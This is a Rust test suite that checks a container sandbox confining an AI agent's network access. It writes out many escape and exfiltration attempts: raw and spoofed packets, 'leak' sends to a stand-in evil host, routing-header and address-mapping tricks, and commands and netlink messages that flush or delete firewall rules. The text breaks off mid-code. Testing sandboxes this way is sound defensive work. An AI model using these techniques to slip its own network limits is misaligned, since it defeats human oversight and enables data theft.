//! The second lock: what of an address is open, and that nothing else is, by whatever socket it is tried.

use serde_json::{Value, json};

use crate::common::{
    GET, all_refused_fast, everybody, gets_through, nothing_to, only_questions_to, python, python_outside,
};
use crate::rig::{AGENT, BoxOptions, Mark, ROOT, Rig, RunningBox, Talking, host};

fn page(guest: &RunningBox, user: &str, name: &str) {
    let page = guest.exec(user, &format!("curl -sS -m 10 http://{name}/"));
    assert!(page.out.contains("token-"), "{name} as {user}: {page:?}");
}

#[test]
fn t27_no_echo_leaves_not_even_to_an_open_address() {
    let Some(rig) = Rig::new() else { return };
    let targets = ["ok", "ok_v6", "evil", "evil_v6", "upstream"].map(host);
    for target in &targets {
        assert_eq!(gets_through(&rig, &["ping", target, "leak"]), "leak\n");
    }
    let guest = rig.boot(&BoxOptions::new().allow("ok.test:443,80;onlysix.test:443,80"));
    let mark = rig.world.sync();
    all_refused_fast(&guest, targets.iter().map(|target| ["ping", target, "leak"]));
    let packets = rig.world.packets_since(mark);
    assert!(packets.iter().all(|one| one["proto"] != "icmp" && one["proto"] != "icmp6"), "{packets:?}");
    page(&guest, AGENT, "ok.test");
    page(&guest, AGENT, "onlysix.test");
}

/// Every way to packets that no socket of a protocol makes.
const RAW: &str = r#"
import socket
AF_XDP, AF_PACKET = 44, 17
for name, arguments in (
    ("raw icmp", (socket.AF_INET, socket.SOCK_RAW, 1)),
    ("raw tcp", (socket.AF_INET, socket.SOCK_RAW, 6)),
    ("raw any", (socket.AF_INET, socket.SOCK_RAW, 255)),
    ("raw icmp6", (socket.AF_INET6, socket.SOCK_RAW, 58)),
    ("raw any6", (socket.AF_INET6, socket.SOCK_RAW, 255)),
    ("packet", (AF_PACKET, socket.SOCK_RAW, 0x0300)),
    ("packet datagram", (AF_PACKET, socket.SOCK_DGRAM, 0x0300)),
    ("packet old", (socket.AF_INET, 10, 0x0300)),
    ("xdp", (AF_XDP, socket.SOCK_RAW, 0)),
    ("bluetooth", (31, socket.SOCK_RAW, 1)),
    ("vsock", (40, socket.SOCK_STREAM, 0)),
):
    try:
        socket.socket(*arguments).close()
        print(name, "OPENED")
    except OSError as error:
        print(name, error.__class__.__name__)
"#;

#[test]
fn t28_raw_packet_and_xdp_sockets_are_not_permitted() {
    let Some(rig) = Rig::new() else { return };
    let opened = |text: &str| {
        text.lines().filter(|line| line.ends_with("OPENED")).map(str::to_owned).collect::<Vec<_>>()
    };
    let outside = python_outside(&rig, RAW).out;
    assert!(opened(&outside).len() >= 7, "root outside has them: {outside}");
    let guest = rig.boot(&BoxOptions::new());
    guest.write_as_agent("/tmp/raw.py", RAW);
    for done in [guest.as_session("python3 /tmp/raw.py"), guest.exec_agent("python3 /tmp/raw.py")] {
        let vsock_is_no_network = |line: &String| line != "vsock OPENED";
        let opened: Vec<String> = opened(&done.out).into_iter().filter(vsock_is_no_network).collect();
        assert!(opened.is_empty() && done.out.contains("packet PermissionError"), "{done:?}");
        assert!(done.out.contains("xdp PermissionError"), "{done:?}");
    }
    // The session's filter closes what is no packet filter's business.
    assert!(!guest.as_session("python3 /tmp/raw.py").out.contains("vsock OPENED"));
}

/// A header of our own making: a raw socket of root's passes the same rules.
const RAW_PACKET: &str = r#"
import socket, struct, sys
source, target, protocol, payload = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4].encode()
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
udp = struct.pack("!4H", 5000, 9999, 8 + len(payload), 0) + payload
header = struct.pack("!BBHHHBBH4s4s", 69, 0, 20 + len(udp), 7, 0, 64, protocol, 0, socket.inet_aton(source), socket.inet_aton(target))
s.sendto(header + udp, (target, 0))
"#;

#[test]
fn t28_roots_raw_packets_meet_the_same_rules() {
    let Some(rig) = Rig::new() else { return };
    let evil = host("evil");
    let run = |sign: &str, source: &str, protocol: &str| {
        RAW_PACKET
            .replace("sys.argv[1]", &format!("'{source}'"))
            .replace("sys.argv[2]", &format!("'{evil}'"))
            .replace("sys.argv[3]", &format!("'{protocol}'"))
            .replace("sys.argv[4]", &format!("'{sign}'"))
    };
    let kinds = [("172.31.77.2", "17"), ("172.31.77.2", "47"), ("172.31.77.2", "253"), ("10.9.9.9", "17")];
    for (source, protocol) in kinds {
        let mark = rig.world.sync();
        python_outside(&rig, &run("control", source, protocol)).expect("a packet");
        assert!(
            rig.world.packets_since(mark).iter().any(|one| one["dst"] == evil.as_str()),
            "{source} {protocol}"
        );
    }
    let guest = rig.boot(&BoxOptions::new());
    let mark = rig.world.sync();
    for (source, protocol) in kinds {
        python(&guest, ROOT, &run("leak", source, protocol));
        assert!(!python(&guest, AGENT, &run("leak", source, protocol)).ok());
    }
    nothing_to(&rig, mark, &evil);
}

#[test]
fn t29_udp_to_an_open_address_is_refused_quic_too() {
    let Some(rig) = Rig::new() else { return };
    let targets = ["ok", "ok_v6"].map(host);
    for target in &targets {
        for port in ["443", "9999", "123"] {
            gets_through(&rig, &["udp", target, port, "leak"]);
        }
    }
    let guest = rig.boot(&BoxOptions::new().allow("ok.test:443,80,9999,123;onlysix.test:443,80,9999,123"));
    let mark = rig.world.sync();
    let by_udp = |target| ["443", "9999", "123", "80"].map(|port| ["udp", target, port, "leak"]);
    all_refused_fast(&guest, targets.iter().flat_map(|target| by_udp(target.as_str())));
    // QUIC's long header; what curl would do if it could.
    let quic = "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor i in range(3):\n \
                s.sendto(b'\\xc0\\0\\0\\0\\1\\x08leakleak' + bytes(1188), ('TARGET', 443))";
    for user in [AGENT, ROOT] {
        python(&guest, user, &quic.replace("TARGET", &targets[0]));
    }
    let packets = rig.world.packets_since(mark);
    let to_them = packets.iter().filter(|one| targets.iter().any(|target| one["dst"] == target.as_str()));
    assert_eq!(to_them.count(), 0, "{packets:?}");
    for target in &targets {
        assert!(guest.client(AGENT, &["tcp", target, "443", "by tcp"]).ok(), "{target}");
    }
}

#[test]
fn t34_other_ports_of_an_open_address_are_refused() {
    let Some(rig) = Rig::new() else { return };
    let targets = ["ok", "ok_v6"].map(host);
    let closed = ["22", "853", "3000", "5432", "7999", "8080", "8443", "9418"];
    for target in &targets {
        for port in closed.iter().chain(&["80", "443", "9999"]) {
            gets_through(&rig, &["tcp", target, port, GET]);
        }
    }
    let guest = rig.boot(&BoxOptions::new().allow("ok.test:443,9999;onlysix.test:443,9999"));
    let mark = rig.world.sync();
    for target in &targets {
        // 80 is a port of other rules, of the profiles', for other addresses.
        all_refused_fast(&guest, closed.iter().chain(&["80"]).map(|port| ["tcp", target, port, GET]));
        for port in ["443", "9999"] {
            for (who, done) in everybody(&guest, &["tcp", target, port, "hello"]) {
                assert!(done.ok(), "{who} {target} {port}: {done:?}");
            }
        }
    }
    let packets = rig.world.packets_since(mark);
    let to_them = packets.iter().filter(|one| targets.iter().any(|target| one["dst"] == target.as_str()));
    let strange: Vec<&Value> = to_them.filter(|one| one["dport"] != 443 && one["dport"] != 9999).collect();
    assert!(strange.is_empty(), "{strange:?}");
}

#[test]
fn t35_neighbours_of_an_open_address_are_closed() {
    let Some(rig) = Rig::new() else { return };
    // Beside ok.test, and in the ranges that GitHub publishes.
    let neighbours = ["93.184.215.19", "93.184.215.23", "140.82.112.11", "140.82.121.4", "2606:4700::21"];
    for neighbour in neighbours {
        gets_through(&rig, &["tcp", neighbour, "443", "leak"]);
    }
    let guest = rig.boot(&BoxOptions::new().allow("ok.test:443,80;onlysix.test"));
    let mark = rig.world.sync();
    let both = |neighbour| ["443", "22"].map(|port| ["tcp", neighbour, port, "leak"]);
    all_refused_fast(&guest, neighbours.into_iter().flat_map(both));
    for neighbour in neighbours {
        nothing_to(&rig, mark, neighbour);
    }
    assert!(guest.client(AGENT, &["tcp", &host("github"), "443", "hello"]).ok(), "the resolved one");
}

/// Answers with its sign whoever comes to one of its doors (`tcp ADDRESS PORT` …), until its standard input ends.
const SERVE: &str = r#"
import socket, sys, threading
SIGN = b"secret of the box"
def tcp(listener):
    while True:
        connection, _ = listener.accept()
        connection.sendall(SIGN)
        connection.close()
def udp(datagrams):
    while True:
        _, peer = datagrams.recvfrom(999)
        datagrams.sendto(SIGN, peer)
doors = sys.argv[1:]
for at in range(0, len(doors), 3):
    kind, host, port = doors[at : at + 3]
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    opened = socket.socket(family, socket.SOCK_STREAM if kind == "tcp" else socket.SOCK_DGRAM)
    opened.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    opened.bind((host, int(port)))
    if kind == "tcp":
        opened.listen()
    threading.Thread(target=tcp if kind == "tcp" else udp, args=(opened,), daemon=True).start()
print("up", flush=True)
sys.stdin.read()
"#;

/// The server with these doors, in the box as this user or else in its network.
fn serve(rig: &Rig, guest: Option<(&RunningBox, &str)>, doors: &[&str]) -> Talking {
    let program = [&["python3", "-c", SERVE], doors].concat();
    let mut server = match guest {
        Some((guest, user)) => guest.spawn(user, &program),
        None => rig.spawn_inside(&program),
    };
    assert_eq!(server.hear(), "up");
    server
}

const SECRET: &str = "secret of the box\n";

#[test]
fn t38_nobody_comes_in_but_where_the_operator_opened() {
    let Some(rig) = Rig::new() else { return };
    let doors = ["tcp", "0.0.0.0", "8888", "tcp", "fd77::2", "8888", "udp", "0.0.0.0", "8889"];
    let knocks: [&[&str]; 3] = [
        &["tcp", "172.31.77.2", "8888", "hello"],
        &["tcp", "fd77::2", "8888", "hello"],
        &["udp", "172.31.77.2", "8889", "hello"],
    ];
    let server = serve(&rig, None, &doors);
    for knock in knocks {
        assert_eq!(rig.world_client(knock).out, SECRET, "{knock:?}");
    }
    server.end();
    // At once, since each waits for an answer in vain.
    let nobody_opens = |knocks: &[&[&str]]| {
        let said = rig.world_client(&["each", &serde_json::json!(knocks).to_string()]).expect("knocks");
        let refused = said.lines().filter(|line| line.starts_with("[1, \"error: ")).count();
        assert_eq!((refused, said.lines().count()), (knocks.len(), knocks.len()), "{said}");
    };
    {
        let guest = rig.boot(&BoxOptions::new());
        for user in [AGENT, ROOT] {
            let server = serve(&rig, Some((&guest, user)), &doors);
            let mark = rig.world.sync();
            nobody_opens(&knocks);
            // Not even a reset or an ICMP error tells that somebody lives there.
            only_questions_to(&rig, mark, "9.9.9.53");
            for own in
                [["tcp", "127.0.0.1", "8888"], ["udp", "127.0.0.1", "8889"], ["tcp", "172.31.77.2", "8888"]]
            {
                assert_eq!(guest.client(AGENT, &own).out, SECRET, "the box talks to itself");
            }
            server.end();
        }
        assert!(!rig.world_client(&["ping", "172.31.77.2", "hello"]).ok());
        guest.stop();
    }
    let open = rig.boot(&BoxOptions::new().env("INNKEEPER_NETWORK_INBOUND", "8888,8889/udp"));
    let server = serve(
        &rig,
        Some((&open, AGENT)),
        &[&doors[..], &["tcp", "0.0.0.0", "8889", "udp", "0.0.0.0", "8888"]].concat(),
    );
    for knock in knocks {
        let said = rig.world_client(knock);
        assert_eq!(said.out, SECRET, "{knock:?}: {said:?}");
    }
    // What was opened is the port of one protocol.
    nobody_opens(&[
        &["tcp", "172.31.77.2", "8889", "x"],
        &["udp", "172.31.77.2", "8888", "x"],
        &["tcp", "172.31.77.2", "22", "x"],
    ]);
    server.end();
}

/// What the tools do is a message to the kernel: the same by hand, so that a missing library is no protection.
const MESSAGES: &str = r#"
import socket, struct
def send(what, protocol, kind, flags, body):
    try:
        s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol)
        s.settimeout(2)
        s.bind((0, 0))
        for part in body:
            s.send(part)
        said = s.recv(4096)
        print(what, struct.unpack("i", said[16:20])[0] if struct.unpack("H", said[4:6])[0] == 2 else "ANSWER")
    except OSError as error:
        print(what, error.__class__.__name__)
def message(kind, flags, body): return struct.pack("IHHII", 16 + len(body), kind, flags, 1, 0) + body
NFT, ROUTE, NETFILTER = 10, 0, 12
batch = lambda kind: message(kind, 1, struct.pack("!BBH", 0, 0, 10))
table = struct.pack("HH", 14, 1) + b"innkeeper\0\0\0"
send("delete table", NETFILTER, 2, 5, [batch(16) + message(NFT << 8 | 2, 5, struct.pack("BBH", 1, 0, 0) + table) + batch(17)])
send("flush everything", NETFILTER, 2, 5, [batch(16) + message(NFT << 8 | 2, 5, struct.pack("BBH", 0, 0, 0)) + batch(17)])
send("conntrack flush", NETFILTER, 2, 5, [message(1 << 8 | 2, 5, struct.pack("BBH", 2, 0, 0))])
send("del route", ROUTE, 25, 5, [message(25, 5, struct.pack("BBBBBBBBI", 2, 0, 0, 0, 254, 0, 0, 0, 0))])
for path in ("/proc/sys/net/ipv4/ip_forward", "/proc/sys/net/ipv4/conf/all/route_localnet", "/proc/sys/net/netfilter/nf_conntrack_tcp_loose"):
    try:
        open(path, "w").write("1")
        print(path, "WRITTEN")
    except OSError as error:
        print(path, error.__class__.__name__)
"#;

#[test]
fn t46_the_agent_can_change_no_rule_route_or_address() {
    let Some(rig) = Rig::new() else { return };
    let guest = rig.boot(&BoxOptions::new());
    // The image has none of the tools: the rig's own are put where the agent can run them.
    let tools = ["nft", "iptables", "ip6tables", "ipset", "ip", "tc", "sysctl"];
    for tool in tools {
        let path = crate::rig::run("sh", &["-c", &format!("command -v {tool}")]);
        if path.ok() {
            crate::rig::run(
                "docker",
                &["cp", "-L", path.out.trim(), &format!("{}:/workspace/{tool}", guest.name)],
            );
        }
    }
    let rules = || rig.inside("nft -s list table inet innkeeper").expect("the rules");
    let (before, routes) = (rules(), rig.inside("ip route; ip addr show eth0; ip -6 route").out);
    guest.write_as_agent("/tmp/messages.py", MESSAGES);
    let commands = [
        "nft flush ruleset",
        "nft delete table inet innkeeper",
        "iptables -F",
        "iptables -P OUTPUT ACCEPT",
        "ip6tables -F",
        "ipset destroy",
        "ip route add 45.33.32.66 dev eth0",
        "ip link set eth0 down",
        "ip addr add 10.1.1.1/24 dev eth0",
        "ip netns add x",
        "tc qdisc add dev eth0 root netem",
    ];
    for run in [
        |guest: &RunningBox, line: &str| guest.as_session(line),
        |guest: &RunningBox, line: &str| guest.exec_agent(line),
    ] {
        for command in commands {
            let done = run(&guest, &format!("PATH=/workspace:$PATH {command}"));
            assert!(!done.ok(), "{command}: {done:?}");
        }
        let said = run(&guest, "python3 /tmp/messages.py").both();
        let refused = |line: &str| line.ends_with(" -1") || line.ends_with("Error");
        assert!(said.lines().count() >= 6 && said.lines().all(refused), "{said}");
    }
    assert_eq!(rules(), before);
    assert_eq!(rig.inside("ip route; ip addr show eth0; ip -6 route").out, routes);
    // The messages are right: from the host's root they work. Whether the table is away then is a race with its repair.
    let outside = python_outside(&rig, MESSAGES).out;
    assert!(outside.contains("delete table 0") && outside.contains("WRITTEN"), "{outside}");
}

/// How a socket can be bent: what is done to it before it connects. `{}` is where a connection goes.
const BENT: &[(&str, &str)] = &[
    ("bound to the device", "s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b'eth0')"),
    ("bound to the device by number", "s.setsockopt(socket.SOL_SOCKET, 62, 2)"),
    ("another source by freebind", "s.setsockopt(0, 15, 1); s.bind(('93.184.215.20', 0))"),
    ("a loopback source", "s.bind(('127.0.0.1', 0))"),
    ("a low port", "s.bind(('', 53))"),
    (
        "loose source routing",
        "s.setsockopt(0, 4, b'\\x83\\x0b\\x04' + socket.inet_aton('93.184.215.20') + socket.inet_aton('45.33.32.66') + b'\\0')",
    ),
    (
        "strict source routing",
        "s.setsockopt(0, 4, b'\\x89\\x0b\\x04' + socket.inet_aton('93.184.215.20') + socket.inet_aton('45.33.32.66') + b'\\0')",
    ),
    ("record route", "s.setsockopt(0, 4, b'\\x07\\x0b\\x04' + bytes(8) + b'\\0')"),
    ("no route", "s.setsockopt(socket.SOL_SOCKET, socket.SO_DONTROUTE, 1)"),
    ("a priority", "s.setsockopt(socket.SOL_SOCKET, socket.SO_PRIORITY, 6); s.setsockopt(0, 1, 0x10)"),
    ("a short life", "s.setsockopt(0, 2, 1)"),
    ("another congestion control", "s.setsockopt(6, 13, b'reno')"),
];

/// What only root may do to a socket.
const BENT_BY_ROOT: &[(&str, &str)] = &[
    ("transparent", "s.setsockopt(0, 19, 1); s.bind(('93.184.215.20', 0))"),
    ("a mark", "s.setsockopt(socket.SOL_SOCKET, 36, 0x40)"),
    ("repaired", "s.setsockopt(6, 19, 1)"),
];

fn bent(kind: &str, bend: &str, sign: &str) -> String {
    let (kind, port) = match kind {
        "gated" => ("SOCK_STREAM", 80),
        "tcp" => ("SOCK_STREAM", 9999),
        _ => ("SOCK_DGRAM", 9999),
    };
    format!(
        "import socket\ns = socket.socket(socket.AF_INET, socket.{kind})\ns.settimeout(1)\n{bend}\n\
         s.connect(('45.33.32.66', {port}))\ns.send(b'GET /{sign} HTTP/1.0\\r\\nHost: evil.test\\r\\n\\r\\n')"
    )
}

#[test]
fn t45_options_of_a_socket_change_nothing() {
    let Some(rig) = Rig::new() else { return };
    let seen = |since: Mark| !rig.world.packets_since(since).is_empty();
    let all =
        || BENT.iter().chain(BENT_BY_ROOT).flat_map(|bend| ["tcp", "udp", "gated"].map(|kind| (kind, bend)));
    let mut through = 0;
    for (kind, (_, bend)) in all() {
        let mark = rig.world.sync();
        python_outside(&rig, &bent(kind, bend, "control"));
        through += u32::from(seen(mark));
    }
    assert!(through > 18, "of the bent sockets only {through} get through without rules");
    let guest = rig.boot(&BoxOptions::new());
    for (kind, (name, bend)) in all() {
        let mark = rig.world.sync();
        for user in [AGENT, ROOT] {
            python(&guest, user, &bent(kind, bend, "leak"));
        }
        let leaked: Vec<Value> =
            rig.world.packets_since(mark).into_iter().filter(|one| one["dst"] != "9.9.9.53").collect();
        assert!(leaked.is_empty(), "{kind} {name}: {leaked:?}");
    }
    assert!(!rig.world.log("http").iter().any(|one| one["target"] == "/leak"));
}

#[test]
fn t45_data_in_the_first_packet_and_in_fragments_stays_in_the_box() {
    let Some(rig) = Rig::new() else { return };
    // TCP fast open sends with the SYN once a cookie is known, or without any where the sysctl says so (0x5).
    let fast = |port: u16, sign: &str| {
        format!(
            "import socket\ns = socket.socket()\ns.settimeout(1)\ns.sendto(b'{sign}', 0x20000000, ('{}', {port}))\nprint(s.recv(99))",
            host("ok")
        )
    };
    rig.inside("sysctl -w net.ipv4.tcp_fastopen=5").expect("the box's own sysctl");
    let mark = rig.world.sync();
    python_outside(&rig, &fast(9999, "control in syn"));
    let syn = rig.world.packets_since(mark);
    assert!(
        syn.iter()
            .any(|one| one["flags"].as_str().is_some_and(|flags| flags.contains('S')) && one["length"] != 0),
        "{syn:?}"
    );
    // Three fragments of a datagram, and one that overlaps.
    let large = format!(
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.setsockopt(0, 10, 0)\ns.sendto(b'leak' * 1000, ('{}', 9999))",
        host("ok")
    );
    let mark = rig.world.sync();
    python_outside(&rig, &large);
    assert!(rig.world.packets_since(mark).iter().any(|one| one["fragment"] == true));
    let six = format!(
        "import socket\ns = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)\ns.sendto(b'leak' * 1000, ('{}', 9999))",
        host("ok_v6")
    );
    let mark = rig.world.sync();
    python_outside(&rig, &six);
    assert!(rig.world.packets_since(mark).iter().any(|one| one["fragment"] == true));

    let guest = rig.boot(&BoxOptions::new().allow("ok.test:443,80,7999;onlysix.test:443,80"));
    let mark = rig.world.sync();
    for user in [AGENT, ROOT] {
        python(&guest, user, &fast(9999, "leak in syn"));
        python(&guest, user, &large);
        python(&guest, user, &six);
    }
    only_questions_to(&rig, mark, "9.9.9.53");
    // On a port that is open it is a connection as any other.
    assert!(python(&guest, AGENT, &fast(7999, "hello")).out.contains("token-"));
}

#[test]
fn t25_ipv4_in_ipv6_clothes_meets_ipv4s_rules() {
    let Some(rig) = Rig::new() else { return };
    let mapped = [
        ("::ffff:45.33.32.66", "80"),
        ("::ffff:169.254.169.254", "80"),
        ("64:ff9b::2d21:2042", "80"),
        ("64:ff9b::a9fe:a9fe", "80"),
        ("2002:2d21:2042::1", "80"),
        ("::45.33.32.66", "80"),
    ];
    for (address, port) in mapped {
        assert!(rig.outside(&["tcp", address, port, GET]).ok() || address == "::45.33.32.66", "{address}");
    }
    let guest = rig.boot(&BoxOptions::new().allow("ok.test:443,80"));
    let mark = rig.world.sync();
    for user in [AGENT, ROOT] {
        let each = mapped.iter().flat_map(|(address, port)| {
            ["tcp", "udp"].map(|kind| [kind, address, port, GET].map(str::to_owned).to_vec())
        });
        let each: Vec<_> = each.collect();
        for (attempt, done) in each.iter().zip(guest.clients(Some(user), &each)) {
            assert!(!done.ok(), "{attempt:?} as {user}: {done:?}");
        }
    }
    // Nor does the way around open more of an open address.
    let ok = format!("::ffff:{}", host("ok"));
    assert!(!guest.client(AGENT, &["tcp", &ok, "9999", "leak"]).ok());
    assert!(!guest.client(AGENT, &["udp", &ok, "443", "leak"]).ok());
    only_questions_to(&rig, mark, "9.9.9.53");
    assert!(guest.client(AGENT, &["tcp", &ok, "80", GET]).ok(), "the open port, spelled differently");
}

#[test]
fn t22_of_four_hundred_addresses_those_that_are_answered_are_open() {
    let pool: Vec<_> = (0..400)
        .map(|number| json!(["A", format!("93.184.{}.{}", 200 + number / 200, number % 200 + 1), 5]))
        .collect();
    let Some(rig) = Rig::with_zone(|zone| {
        zone["records"]["many.wild.test"] = json!(pool);
        zone["records"]["turning.wild.test"] = json!(pool);
        zone["names"]["turning.wild.test"] = json!({"rotate": 8});
    }) else {
        return;
    };
    let outside = gets_through(&rig, &["dns", "9.9.9.53", "many.wild.test", "A", "tcp"]);
    assert_eq!(outside.split_whitespace().count(), 401);
    let guest = rig.boot(&BoxOptions::new().allow("ok.test;*.wild.test:9999"));
    let race = |name: &str| {
        format!(
            "import socket\nbad = []\nfound = sorted({{a[4] for a in socket.getaddrinfo('{name}', 9999, socket.AF_INET, socket.SOCK_STREAM)}})\n\
             for a in found:\n try:\n  s = socket.create_connection(a, 3); s.sendall(b'hi\\n'); assert s.recv(99).decode().startswith('token-' + a[0])\n \
             except OSError as error: bad.append((a, error))\nprint(len(found), bad)"
        )
    };
    for _ in 0..2 {
        let said = python(&guest, AGENT, &race("many.wild.test"));
        let (count, bad) = said.out.trim().split_once(' ').unwrap();
        assert!((1..=128).contains(&count.parse::<usize>().unwrap()) && bad == "[]", "{said:?}");
    }
    // A name that turns through its addresses: each answer is open when it comes, and the whole stays within the caps.
    for _ in 0..30 {
        let said = python(&guest, AGENT, &race("turning.wild.test"));
        assert!(said.out.ends_with(" []\n"), "{said:?}");
    }
    let open = crate::common::open_in_the_kernel(&rig, "open4");
    assert!(open.iter().filter(|(_, port, _)| *port == 9999).count() <= 2 * 128, "{}", open.len());
}

#[test]
fn t201_listeners_that_were_there_before_are_closed_until_the_operator_opens_them() {
    let Some(rig) = Rig::new() else { return };
    let sidecar = [
        "tcp",
        "127.0.0.1",
        "9200",
        "tcp",
        "0.0.0.0",
        "9201",
        "tcp",
        "::1",
        "9202",
        "udp",
        "127.0.0.1",
        "9203",
    ];
    let server = serve(&rig, None, &sidecar);
    let doors: [[&str; 4]; 5] = [
        ["tcp", "127.0.0.1", "9200", "leak"],
        ["tcp", "127.0.0.1", "9201", "leak"],
        ["tcp", "172.31.77.2", "9201", "leak"],
        ["tcp", "::1", "9202", "leak"],
        ["udp", "127.0.0.1", "9203", "leak"],
    ];
    for door in &doors {
        assert_eq!(gets_through(&rig, door), SECRET, "{door:?}");
    }
    {
        let guest = rig.boot(&BoxOptions::new());
        for door in &doors {
            for (who, done) in everybody(&guest, door) {
                assert!(!done.ok() && done.out.is_empty(), "{who} {door:?}: {done:?}");
            }
        }
        // The agent's own are its own.
        let own = serve(&rig, Some((&guest, AGENT)), &["tcp", "0.0.0.0", "8888"]);
        assert_eq!(guest.client(AGENT, &["tcp", "127.0.0.1", "8888"]).out, SECRET);
        own.end();
        guest.stop();
    }
    let opened = rig.boot(&BoxOptions::new().env("INNKEEPER_NETWORK_LOOPBACK", "9200"));
    assert_eq!(opened.client(AGENT, &doors[0]).out, SECRET);
    assert!(!opened.client(AGENT, &doors[1]).ok());
    let warnings = opened.status()["warnings"].to_string();
    assert!(warnings.contains("9201"), "what is closed is said: {warnings}");
    server.end();
}

#[test]
fn t203_packets_that_no_socket_owns_neither_slip_out_nor_get_stuck() {
    let Some(rig) = Rig::new() else { return };
    // What the kernel says on its own: resets and unreachable ports.
    let mark = rig.world.sync();
    assert!(!rig.world_client(&["tcp", "172.31.77.2", "7777", "x"]).ok());
    assert!(!rig.world_client(&["udp", "172.31.77.2", "7777", "x"]).ok());
    let spoken = rig.world.packets_since(mark);
    assert!(
        spoken.iter().any(|one| one["proto"] == "tcp") && spoken.iter().any(|one| one["proto"] == "icmp"),
        "{spoken:?}"
    );
    let guest = rig.boot(&BoxOptions::new().allow("ok.test:443,80,9999"));
    let mark = rig.world.sync();
    rig.world_client(&["tcp", "172.31.77.2", "7777", "x"]);
    rig.world_client(&["udp", "172.31.77.2", "7777", "x"]);
    rig.world_client(&["udp", "172.31.77.2", "53", "x"]);
    rig.world_client(&["tcp", "172.31.77.2", "53", "x"]);
    only_questions_to(&rig, mark, "9.9.9.53");
    // A process that is killed leaves the end of its connection to the kernel; so does one that closes: TIME_WAIT.
    let ended = |sign: &str| {
        let log = rig.world.log("tcp");
        log.iter().any(|one| {
            one["event"] == "close" && one["data"].as_str().is_some_and(|data| data.contains(sign))
        })
    };
    for user in [AGENT, ROOT] {
        let mut flow = guest.flow(user, &host("ok"), "9999");
        assert_eq!(flow.hear(), "connected");
        flow.say(&format!("killed-{user}"));
        assert_eq!(flow.hear(), format!("killed-{user}"));
        guest.exec_root("pkill -KILL -f '^python3 -c.*flow'");
        let mut flow = guest.flow(user, &host("ok"), "9999");
        assert_eq!(flow.hear(), "connected");
        flow.say(&format!("closed-{user}"));
        assert_eq!(flow.hear(), format!("closed-{user}"));
        flow.end();
        for sign in ["killed", "closed"] {
            crate::common::until(sign, crate::rig::PATIENCE, || ended(&format!("{sign}-{user}")));
        }
    }
    // Asking by TCP leaves a TIME_WAIT at the worker's side: neither it nor a fast second question is refused.
    for _ in 0..20 {
        let said = guest.client(AGENT, &["dns", "8.8.8.8", "ok.test", "A", "tcp"]);
        assert_eq!(said.out.trim(), format!("NOERROR {}", host("ok")));
    }
    let strange: Vec<Value> = rig
        .world
        .packets_since(mark)
        .into_iter()
        .filter(|one| one["dst"] != "9.9.9.53" && one["dst"] != host("ok").as_str())
        .collect();
    assert!(strange.is_empty(), "{strange:?}");
}

/// Routed by way of an open address to a closed one: IPv6's source routing (RFC 8754), for which a socket needs no privilege.
const SEGMENTS: &str = r#"
import socket, struct
via, target = socket.inet_pton(socket.AF_INET6, "VIA"), socket.inet_pton(socket.AF_INET6, "TARGET")
header = struct.pack("!BBBBBBH", 0, 4, 4, 1, 1, 0, 0) + target + via
for port in (9999, 80):
    s = socket.socket(socket.AF_INET6)
    s.settimeout(1)
    s.setsockopt(socket.IPPROTO_IPV6, 57, header)
    try:
        s.connect(("TARGET", port))
        s.send(b"SIGN")
    except OSError as error:
        print(error)
"#;

#[test]
fn t25_a_routing_header_takes_nothing_past_the_rules() {
    let Some(rig) = Rig::new() else { return };
    let (via, evil) = (host("ok_v6"), host("evil_v6"));
    let program = |sign: &str| SEGMENTS.replace("VIA", &via).replace("TARGET", &evil).replace("SIGN", sign);
    let arrived = |since: Mark| {
        let packets = rig.world.packets_since(since);
        packets
            .into_iter()
            .filter(|one| one["dst"] == via.as_str() || one["dst"] == evil.as_str())
            .collect::<Vec<_>>()
    };
    let mark = rig.world.sync();
    let control = python_outside(&rig, &program("control"));
    assert!(!arrived(mark).is_empty(), "this kernel routes by segments: {control:?}");
    let guest = rig.boot(&BoxOptions::new().allow("onlysix.test:80,9999"));
    page(&guest, AGENT, "onlysix.test");
    let mark = rig.world.sync();
    for user in [AGENT, ROOT] {
        python(&guest, user, &program("leak"));
    }
    assert_eq!(arrived(mark), [] as [Value; 0]);
}

#[test]
fn t26_the_session_joins_no_group_of_the_link() {
    let Some(rig) = Rig::new() else { return };
    let join = "import socket, struct\ns = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)\n\
                s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, socket.inet_pton(socket.AF_INET6, 'ff02::6c65:616b') + struct.pack('I', 2))\n\
                print(open('/proc/net/igmp6').read())";
    // A report of the group goes to everybody on the link: its name is a message.
    let group = "ff02000000000000000000006c65616b";
    let control = python_outside(&rig, join);
    assert!(control.out.contains(group), "{control:?}");
    let guest = rig.boot(&BoxOptions::new());
    guest.write_as_agent("/tmp/join.py", join);
    let tried = guest.as_session("python3 /tmp/join.py");
    assert!(!tried.ok() && tried.err.contains("PermissionError"), "{tried:?}");
    let joined = guest.exec_root("cat /proc/net/igmp6").out;
    assert!(!joined.contains(group), "{joined}");
}

/// From an address that is not the box's: whoever refuses such a packet would tell its "sender", with the packet in the message.
/// Binding to any IPv6 address takes no privilege (IPV6_FREEBIND).
const SPOOFED: &str = r#"
import socket
for kind, port in ((socket.SOCK_DGRAM, 9999), (socket.SOCK_DGRAM, 53), (socket.SOCK_DGRAM, 8889), (socket.SOCK_STREAM, 80), (socket.SOCK_STREAM, 53), (socket.SOCK_STREAM, 8888)):
    for source, target, family, level, option in (
        ("2606:4700::66", "2606:4700::77", socket.AF_INET6, 41, 78),
        ("2606:4700::66", "::1", socket.AF_INET6, 41, 78),
        ("2606:4700::66", "fd77::2", socket.AF_INET6, 41, 78),
        ("45.33.32.66", "45.33.32.77", socket.AF_INET, 0, 15),
        ("45.33.32.66", "45.33.32.77", socket.AF_INET, 0, 19),
        ("45.33.32.66", "172.31.77.2", socket.AF_INET, 0, 15),
    ):
        s = socket.socket(family, kind)
        s.settimeout(0.3)
        try:
